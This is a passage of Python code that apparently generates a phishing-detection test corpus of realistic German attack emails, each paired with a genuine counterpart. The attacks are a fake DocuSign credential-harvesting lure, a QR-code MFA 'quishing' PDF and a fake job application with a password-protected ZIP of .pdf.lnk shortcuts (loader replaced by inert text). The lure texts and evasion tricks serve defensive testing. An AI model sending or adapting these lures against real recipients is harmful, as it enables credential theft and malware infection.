           '<span style="color:#666">jh.ahlers@nordwerft-cuxhaven.de</span><br><br>Sehr geehrter Herr Jansen,<br>anbei die '
           'Auftragsbestätigung zur Dockung TSHD Elbstrom (Leistungsverzeichnis Rev. 3 mit Zusatzarbeiten Saugrohr und '
           'Schleppkopf) mit der Bitte um '
           'Unterzeichnung bis Freitag.<br><br>Mit freundlichen Grüßen<br>J.-H. Ahlers</td></tr>'
           '<tr><td style="padding:24px;font-size:11px;color:#666;background:#f4f4f4"><b>Leiten Sie diese E-Mail nicht weiter:</b> '
           'Diese E-Mail enthält einen sicheren Link zu Docusign. Bitte geben Sie diesen Link und den Zugangscode nicht an '
           'Dritte weiter.<br><br><b>Alternative Signaturmethode</b><br>Besuchen Sie Docusign.com, klicken Sie auf '
           '\'Dokumente aufrufen\' und geben Sie den Sicherheitscode ein: %s</td></tr></table>'
           '<img src="https://u%d.ct.sendgrid.net/wf/open?upn=u001.%s" width="1" height="1" alt="" border="0"></body></html>'
           % (click, env.replace("-", "")[:32], uid, rb64url(r, 60).replace("-", "2B").replace("_", "2F")))
    alt = m.multi("alternative", [m.text(text, "utf-8", "quoted-printable"), m.html(htm, "utf-8", "quoted-printable")],
                  style="hex")
    ctx = m.ctx(t, ("Docusign über Nordwerft Cuxhaven", "notifications@brightwavehomes.com"), [victim],
                "Nordwerft Cuxhaven GmbH hat Ihnen einen Umschlag gesendet: Auftragsbestätigung Dockung TSHD Elbstrom (LV Rev. 3)",
                alt, zone="DE")
    ctx.reply_to = "jh.ahlers@nordwerft-cuxhaven.de"
    res = S.sendgrid(ctx, "em4412.brightwavehomes.com")
    m.facts(url=[click])
    m.describe("Fake DocuSign envelope 'from Nordwerft Cuxhaven' (the fleet's real shipyard) for a docking order "
               "confirmation; the button is a SendGrid click-tracking link leading to a credential-harvesting page.",
               "Sent through a compromised SendGrid account of an unrelated US company (brightwavehomes.com; "
               "DKIM/SPF/DMARC pass for that domain) with display name 'Docusign über Nordwerft Cuxhaven'; real "
               "DocuSign mail comes from docusign.net and links to docusign.net; Reply-To set to the real shipyard "
               "contact to look legitimate.",
               pair="B04 (genuine DocuSign envelope from Nordwerft)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "07-de-quishing-mfa-pdf-wordpress")
def a07(m):
    r = m.r
    t = at(2026, 11, 2, 7, 31, 55)
    victim = W.st("claudia")
    target = "https://ms365-sicherheit.pages.dev/auth?u=Y2xhdWRpYS5iZWNrZXJAZXhhbXBsZS5jb20"
    body = ("Gemäß der aktualisierten IT-Sicherheitsrichtlinie (NIS-2) müssen alle Benutzerkonten ihre "
            "Multi-Faktor-Authentifizierung (MFA) bis zum 04.11.2026 neu registrieren. Konten ohne erneuerte "
            "Registrierung werden aus Sicherheitsgründen vorübergehend gesperrt.\n\n"
            "Benutzerkonto: %s\nFrist: 04.11.2026, 18:00 Uhr\n\n"
            "So gehen Sie vor:\n1. Öffnen Sie die Kamera-App Ihres Smartphones.\n2. Scannen Sie den untenstehenden QR-Code.\n"
            "3. Melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie die Registrierung in der Authenticator-App.\n\n"
            "Der Vorgang dauert weniger als zwei Minuten. Bitte verwenden Sie ausschließlich Ihr Smartphone, da die "
            "Registrierung an das Mobilgerät gebunden wird." % victim[1])
    pdfb = docs.letter_pdf(
        m, "Microsoft 365", ["IT-Sicherheit", "Example Group", "Dokument: MFA-2026-11-%04d" % r.randint(1000, 9999)],
        [victim[0], victim[1]], "02.11.2026", "Pflichtaktion: Erneuerung der Multi-Faktor-Authentifizierung",
        body, ["IT-Sicherheit / Security Operations", "Example Group"],
        [["Diese Nachricht wurde automatisch erstellt.", "Bitte antworten Sie nicht auf diese Nachricht."]],
        t, 60, creator="Microsoft Word", producer="iLovePDF", color=(0, 103, 184), qr_payload=target,
        qr_caption="Scannen Sie diesen Code mit der Kamera Ihres Smartphones, um die MFA-Registrierung zu erneuern.",
        title="MFA Aktualisierung")
    text = ("Hallo %s,\n\nfür Ihr Konto %s steht eine Pflichtaktion aus: die Erneuerung der Multi-Faktor-Authentifizierung "
            "bis 04.11.2026.\n\nDie Anleitung mit Ihrem persönlichen QR-Code finden Sie im Anhang.\n\n"
            "Ihr IT-Service\n" % (victim[0].split()[0], victim[1]))
    htm = ("<html><body style=\"font-family:Segoe UI,Arial;font-size:14px\"><p>Hallo %s,</p><p>für Ihr Konto <b>%s</b> "
           "steht eine Pflichtaktion aus: die Erneuerung der Multi-Faktor-Authentifizierung bis <b>04.11.2026</b>.</p>"
           "<p>Die Anleitung mit Ihrem persönlichen QR-Code finden Sie im Anhang.</p><p>Ihr IT-Service</p></body></html>"
           % (victim[0].split()[0], victim[1]))
    alt = m.multi("alternative", [m.text(text, "utf-8", "quoted-printable"), m.html(htm, "utf-8", "quoted-printable")],
                  style="php")
    root = m.multi("mixed", [alt, m.attach(pdfb, "application/octet-stream", "MFA_Aktualisierung_%s.pdf" % victim[1].split("@")[0])],
                   style="php")
    ctx = m.ctx(t, ("IT-Service | Example Group", "noreply@tischlerei-hansen-kiel.de"), [victim],
                "Pflichtaktion: MFA-Aktualisierung für %s bis 04.11.2026" % victim[1], root, zone="DE")
    ctx.env_from = "hansenk3@srv17.webhosting-nord.de"
    ctx.msgid = "<%s@tischlerei-hansen-kiel.de>" % rstr(r, 43, ALNUM)
    res = S.cpanel(ctx, "srv17.webhosting-nord.de", "185.26.156.41", user="hansenk3", dmarc=None, spf="pass",
                   domain_for_abuse="tischlerei-hansen-kiel.de")
    m.describe("Quishing: 'IT-Service' demands an MFA re-registration by 04.11.; the attached PDF carries a QR code "
               "leading to a Cloudflare-Pages phishing site with the victim's address base64-encoded in the URL.",
               "Sent by a PHP mailer on a compromised carpentry shop's WordPress hosting (envelope on "
               "srv17.webhosting-nord.de, no DKIM, From domain without DMARC) under an internal-IT display name; "
               "the only link is inside a QR image in a PDF declared as application/octet-stream; threat of "
               "account lock and 'use your smartphone only' to move the victim off the managed PC.",
               pair="B16 (IT's genuine warning about this campaign)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "08-de-bewerbung-passwort-zip-lnk")
def a08(m):
    r = m.r
    t = at(2026, 12, 8, 9, 56, 20)
    pw = "Berger2026"
    dtz = (2026, 12, 8, 9, 41, 2)
    inert = ("[Windows-Verknüpfung, im Original ein LNK-Loader: startet verdeckt PowerShell und lädt ein Skript nach. "
             "In diesem Testdatensatz inert ersetzt.]\r\n").encode("utf-8")
    z = m.zip([("Bewerbungsunterlagen_Lukas_Berger/Lebenslauf_Lukas_Berger.pdf.lnk", inert, dtz),
               ("Bewerbungsunterlagen_Lukas_Berger/Anschreiben_Lukas_Berger.pdf.lnk", inert, dtz),
               ("Bewerbungsunterlagen_Lukas_Berger/Zeugnisse_Reederei_Schulte.pdf.lnk", inert, dtz)], password=pw)
    text = ("Sehr geehrte Frau Hartmann,\n\n"
            "mit großem Interesse habe ich Ihre Stellenanzeige „Technischer Inspektor / Schiffsingenieur (m/w/d) "
            "Baggerflotte“ gelesen und bewerbe mich hiermit um diese Position.\n\n"
            "Ich bin staatlich geprüfter Schiffsbetriebstechniker und war zuletzt vier Jahre als 2. Ingenieur auf "
            "Laderaumsaugbaggern im Charter eines niederländischen Wasserbauunternehmens tätig. Die Instandhaltung von "
            "Baggerpumpen, Hydraulik und Antriebsanlagen sowie die Vorbereitung von Werftliegezeiten gehörten zu meinen "
            "täglichen Aufgaben.\n\n"
            "Aus Datenschutzgründen habe ich meine Unterlagen (Anschreiben, Lebenslauf, Zeugnisse) in einem "
            "passwortgeschützten Archiv beigefügt. Das Passwort lautet: %s\n\n"
            "Über eine Einladung zu einem persönlichen Gespräch freue ich mich sehr.\n\n"
            "Mit freundlichen Grüßen\nLukas Berger\n\nMobil: +49 152 0418 7732\n" % pw)
    root = m.multi("mixed", [m.text(text, "UTF-8", "quoted-printable"),
                             m.attach(z, "application/zip", "Bewerbungsunterlagen_Lukas_Berger.zip")], style="gmx")
    ctx = m.ctx(t, ("Lukas Berger", "lukas.berger93@gmx.de"), [W.st("monika")],
                "Bewerbung als Technischer Inspektor / Schiffsingenieur (m/w/d) – Lukas Berger", root, zone="DE")
    res = S.gmx(ctx, client_ip="93.235.41.17")
    m.phone("+49 152 0418 7732")
    m.describe("Fake job application to HR with a password-protected ZIP (password in the body) containing three "
               "'PDF' files that are Windows shortcuts (.pdf.lnk) — the classic German ransomware-loader lure.",
               "Encrypted archive defeats attachment scanning; double extensions .pdf.lnk; credible maritime CV text "
               "matching a real vacancy; sent from a fresh GMX free-mail account (all checks pass). LNK contents are "
               "inert placeholders in this set.",
               pair="B06 (genuine application with plain PDFs), B07 (genuine password ZIP, password sent by SMS)")
    return m.finish(ctx, res)
